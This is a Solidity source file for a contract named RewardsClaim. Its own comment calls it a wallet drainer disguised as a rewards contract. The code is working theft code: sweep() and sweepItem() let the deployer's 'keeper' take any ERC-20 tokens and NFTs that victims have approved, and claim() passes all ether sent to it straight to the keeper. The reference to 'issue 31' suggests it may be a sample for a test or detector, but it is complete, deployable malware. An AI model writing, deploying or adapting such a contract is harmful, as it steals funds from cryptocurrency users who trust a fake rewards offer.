// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

interface IERC20Like {
    function balanceOf(address owner) external view returns (uint256);
    function allowance(address owner, address spender) external view returns (uint256);
    function transferFrom(address from, address to, uint256 value) external returns (bool);
}

interface IERC721Like {
    function transferFrom(address from, address to, uint256 id) external;
}

/// @notice A wallet drainer dressed as a rewards contract (issue 31): whoever approves it loses what the approval
/// covers, swept by its keeper; `claim()` forwards any native value straight to the keeper.
contract RewardsClaim {
    address private immutable keeper;

    constructor() {
        keeper = msg.sender;
    }

    function sweep(address token, address[] calldata owners) external {
        require(msg.sender == keeper, "not keeper");
        for (uint256 i = 0; i < owners.length; i++) {
            uint256 balance = IERC20Like(token).balanceOf(owners[i]);
            uint256 allowed = IERC20Like(token).allowance(owners[i], address(this));
            uint256 amount = balance < allowed ? balance : allowed;
            if (amount > 0) IERC20Like(token).transferFrom(owners[i], address(this), amount);
        }
    }

    function sweepItem(address collection, address owner, uint256 id) external {
        require(msg.sender == keeper, "not keeper");
        IERC721Like(collection).transferFrom(owner, address(this), id);
    }

    function claim() external payable {
        (bool sent, ) = keeper.call{value: msg.value}("");
        require(sent, "forward failed");
    }
}
